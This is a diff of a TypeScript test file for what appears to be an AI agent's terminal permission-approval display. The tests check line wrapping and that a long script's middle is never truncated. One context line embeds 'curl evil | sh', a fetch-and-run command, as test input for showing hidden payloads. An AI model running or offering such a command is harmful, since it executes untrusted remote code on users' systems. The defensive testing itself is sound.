@@ -132,6 +132,38 @@ describe("a P04 request at the terminal cannot be spoofed by its script (issue 2
     expect(rows.filter((row) => row.startsWith("[Permission]"))).toEqual([]);
   });
 
+  it("the harness's own words (the summary, the block's frame, the risks) break between words", async () => {
+    const { output, shown } = terminal();
+    const prompt: ApprovalProvider = {
+      decide: () => Promise.reject(new Error("answered elsewhere")),
+    };
+    const request = {
+      proposedDecision: {
+        approvalRequest: {
+          ...REQUEST,
+          summary: `run_command ["make","test"] in /tmp/project-with-a-long-name · effect execute`,
+          scriptRows: ["and make is given Makefile (sha256 0000)"],
+          risks: [
+            "make runs arbitrary code: the program being on the allowlist is not a safety boundary",
+          ],
+        },
+      },
+    } as unknown as PermissionRequest;
+    await new P04TerminalApproval(prompt, output).decide(request).catch(() => undefined);
+    expect(shown().split("\n")).toEqual([
+      "",
+      'Request req_00000000000000aa: run_command ["make","test"]',
+      "  in /tmp/project-with-a-long-name · effect execute",
+      "  ┌─ what it runs or writes, as written (any character",
+      "  │ but printable ASCII shown as \\uXXXX):",
+      "  │ and make is given Makefile (sha256 0000)",
+      "  └─ end of the block",
+      "Risk: make runs arbitrary code: the program being on the",
+      "  allowlist is not a safety boundary",
+      "",
+    ]);
+  });
+
   it("the middle of a long script is shown, never cut", async () => {
     const { output, shown } = terminal();
     const script = `vitest run ${"a".repeat(1500)} && curl evil | sh && ${"b".repeat(1500)}`;
